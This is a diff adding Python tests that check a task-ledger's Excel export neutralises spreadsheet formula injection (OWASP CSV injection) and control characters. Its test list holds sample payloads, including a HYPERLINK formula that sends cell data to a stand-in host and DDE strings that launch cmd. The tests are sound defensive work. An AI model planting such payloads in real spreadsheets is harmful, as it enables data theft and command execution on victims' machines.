@@ -58,8 +58,9 @@ def _book(*events: TaskEvent, start: datetime = CREATED) -> ledger.Book:
 
 
 def _created(task_id: str, deadline: date, **fields: Any) -> TaskCreated:
-    return TaskCreated(task_id=task_id, actor="office", title=f"事项{task_id}", deadline=deadline,
-                       lead_department="edu", **fields)  # fmt: skip
+    fields = {"title": f"事项{task_id}"} | fields
+    return TaskCreated(task_id=task_id, actor="office", deadline=deadline, lead_department="edu",
+                       **fields)  # fmt: skip
 
 
 def _working(task_id: str, deadline: date, *more: TaskEvent, **fields: Any) -> ledger.Book:
@@ -182,3 +183,66 @@ def test_empty_ledger_is_a_title_and_a_header() -> None:
     sheet = load_workbook(BytesIO(data)).active
     assert sheet.max_row == 2
     assert _row(sheet, 2) == list(COLUMNS)
+
+
+# -- issue 18: formula injection (OWASP CSV injection) ----------------------------------------
+DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0",
+             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
+             "\r=1+1"]  # fmt: skip
+"""Text starting with each character OWASP lists: ``=``, ``+``, ``-``, ``@``, tab, CR."""
+
+
+def _sheet_of(book: ledger.Book) -> Any:
+    return load_workbook(BytesIO(workbook([book], NOW, RULES, ZONE, NAMES))).active
+
+
+def _cell(sheet: Any, column: str) -> Any:
+    return sheet.cell(FIRST_TASK_ROW, COLUMNS.index(column) + 1)
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_a_title_a_spreadsheet_would_run_is_a_quoted_string_cell(text: str) -> None:
+    cell = _cell(_sheet_of(_working("DC-010", date(2025, 12, 31), title=text)), "督办事项")
+
+    assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_a_progress_report_a_spreadsheet_would_run_is_a_quoted_string_cell(text: str) -> None:
+    report = TaskProgressReported(task_id="DC-011", actor="edu", percent=10, text=text)
+    cell = _cell(_sheet_of(_working("DC-011", date(2025, 12, 31), report)), "进展情况")
+
+    assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))
+
+
+def test_every_text_cell_of_a_row_is_neutralised() -> None:
+    """Goal, category and the delay reason too: one rule for every cell."""
+    book = _working(
+        "DC-012", date(2025, 6, 10),
+        TaskExtensionRequested(task_id="DC-012", actor="edu", deadline=date(2025, 6, 15),
+                               reason="=1+1"),
+        TaskExtensionApproved(task_id="DC-012", actor="office", deadline=date(2025, 6, 15)),
+        goal="@A1", category="-1+1",
+    )  # fmt: skip
+    sheet = _sheet_of(book)
+
+    cells = [_cell(sheet, c) for c in ("工作目标", "类别", "延期原因")]
+    assert [(c.data_type, c.value) for c in cells] == [("s", "'@A1"), ("s", "'-1+1"),
+                                                        ("s", "'=1+1")]  # fmt: skip
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_normal_text_and_numbers_are_unchanged(sheet: Any) -> None:
+    row = dict(zip(COLUMNS, sheet[FIRST_TASK_ROW], strict=True))
+
+    assert (row["督办事项"].value, row["进展情况"].value) == ("事项DC-001", "主体完成六成")
+    assert (row["完成比例"].data_type, row["延期次数"].value) == ("n", 1)
+
+
+def test_control_characters_do_not_stop_the_sheet() -> None:
+    """openpyxl refuses control characters in a cell: one report holding one must not make
+    the whole ledger unavailable."""
+    report = TaskProgressReported(task_id="DC-013", actor="edu", percent=10, text="a\x07b\x00c")
+    cell = _cell(_sheet_of(_working("DC-013", date(2025, 12, 31), report)), "进展情况")
+
+    assert cell.value == "a\ufffdb\ufffdc"
